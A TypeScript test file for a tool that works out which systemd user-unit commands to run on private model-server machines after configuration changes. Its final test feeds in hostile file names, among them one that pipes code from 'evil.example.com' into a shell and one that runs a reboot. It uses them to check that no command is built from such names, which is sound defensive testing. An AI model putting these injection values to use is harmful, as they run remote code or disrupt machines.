import type { Manifest } from '../../constructs/finished/kube-object';
import type { ChatSettings, Settings } from '../../constructs/settings';
import type { PrivateSiteSettings } from '../../constructs/skupper/private-site-settings';
import { synthesize } from '../../constructs/synthesis/synthesis';
import { minimal } from '../../tests/cases';
import { changesBetween } from '../../tests/edit-run';
import { unitSteps } from './machine-units';
import { machinesOf } from './machines';
import type { SideChanges } from './side-changes';

const chat = (site: PrivateSiteSettings): ChatSettings => ({ ...minimal, privateSites: [site] });

/** What has to be typed on the machines after the settings changed. */
function stepsBetween(before: Settings, after: Settings) {
  const filesOf = (settings: Settings) => synthesize(settings).manifests.filter(({ side }) => side === 'private');
  const side = changesBetween(filesOf(before), filesOf(after));
  return machinesOf(side).flatMap((machine) => unitSteps(side, machine) ?? []);
}

test('another port is another unit, which starts the model anew', () => {
  expect(stepsBetween(chat({ name: 'lab' }), chat({ name: 'lab', port: 8001 }))).toEqual([
    {
      folder: 'lab',
      commands: [
        'cp -r lab/. ~/.config/systemd/user/',
        'systemctl --user daemon-reload',
        'systemctl --user restart model.service',
      ],
    },
  ]);
});

test('a model server that is somewhere else now leaves units behind, which are named', () => {
  expect(stepsBetween(chat({ name: 'lab' }), chat({ name: 'lab', host: 'gpu-box' }))).toEqual([
    {
      folder: undefined,
      commands: [
        'systemctl --user disable --now model.service',
        'systemctl --user disable --now model-watchdog.service',
        'systemctl --user disable --now model-watchdog.timer',
        '(cd ~/.config/systemd/user && rm -f model.service model-watchdog.service model-watchdog.timer skupper-default.service.d/model.conf)',
        'systemctl --user daemon-reload',
      ],
    },
  ]);
});

test('a model server that comes to the machine is started, and the site is told of it', () => {
  expect(stepsBetween(chat({ name: 'lab', host: 'gpu-box' }), chat({ name: 'lab' }))).toEqual([
    {
      folder: 'lab',
      commands: [
        'cp -r lab/. ~/.config/systemd/user/',
        'systemctl --user daemon-reload',
        'systemctl --user restart model.service',
      ],
    },
  ]);
});

test('a unit in place of another', () => {
  const file = (path: string, text?: string): Manifest => ({ side: 'private', path, text, objects: [] });
  const [lab, own] = [file('lab.k8s.yaml'), file('lab/own.timer', '[Timer]\n')];
  const side = changesBetween(
    [lab, own, file('lab/old.service', '[Service]\n')],
    [lab, own, file('lab/new.service', '[Service]\n')],
  );
  expect(machinesOf(side).map((machine) => unitSteps(side, machine))).toEqual([
    {
      folder: 'lab',
      commands: [
        'systemctl --user disable --now old.service',
        '(cd ~/.config/systemd/user && rm -f old.service)',
        'cp -r lab/. ~/.config/systemd/user/',
        'systemctl --user daemon-reload',
        'systemctl --user restart new.service',
      ],
    },
  ]);
});

test('a chat that becomes one of a fleet changes nothing on its machine', () => {
  expect(stepsBetween(chat({ name: 'lab' }), { chats: { first: chat({ name: 'lab' }) } })).toEqual([]);
});

test('a machine of the same name in another chat is another one', () => {
  const lab = { ...chat({ name: 'lab' }), cluster: 'east' };
  const other = { ...chat({ name: 'lab' }), cluster: 'west' };
  expect(stepsBetween({ chats: { first: lab } }, { chats: { first: lab, second: other } })).toEqual([]);
});

const allGone = [
  'systemctl --user disable --now model.service',
  'systemctl --user disable --now model-watchdog.service',
  'systemctl --user disable --now model-watchdog.timer',
  '(cd ~/.config/systemd/user && rm -f model.service model-watchdog.service model-watchdog.timer skupper-default.service.d/model.conf)',
  'systemctl --user daemon-reload',
];

test('a new machine has its own steps, and one that is gone gives its units up', () => {
  expect(stepsBetween(chat({ name: 'lab' }), chat({ name: 'other' }))).toEqual([{ commands: allGone }]);
});

test('a site that goes from a machine to a cluster gives up the units of the machine', () => {
  const onCluster = { name: 'lab', platform: 'kubernetes', namespace: { name: 'llm' }, host: 'vllm' } as const;
  expect(stepsBetween(chat({ name: 'lab' }), chat(onCluster))).toEqual([{ commands: allGone }]);
  expect(stepsBetween(chat(onCluster), chat({ name: 'lab' }))).toEqual([]);
});

test('no command is made of the path of a file that no run writes', () => {
  const changes = (removed: string[]): SideChanges => ({
    side: 'private',
    path: 'dist-private',
    manifests: [],
    files: new Map(),
    added: [],
    changed: [],
    removed,
    kept: [],
    unchanged: 0,
    before: new Map(removed.map((path) => [path, ''])),
  });
  const evil = ['lab/x; curl evil.example.com | sh #.service', 'lab/$(reboot).service', '`a`.k8s.yaml', '-rf.k8s.yaml'];
  const side = changes([...evil, 'lab.k8s.yaml']);
  expect(machinesOf(side).map(({ site }) => site)).toEqual(['lab']);
  expect(machinesOf(side).flatMap((machine) => unitSteps(side, machine) ?? [])).toEqual([]);
});
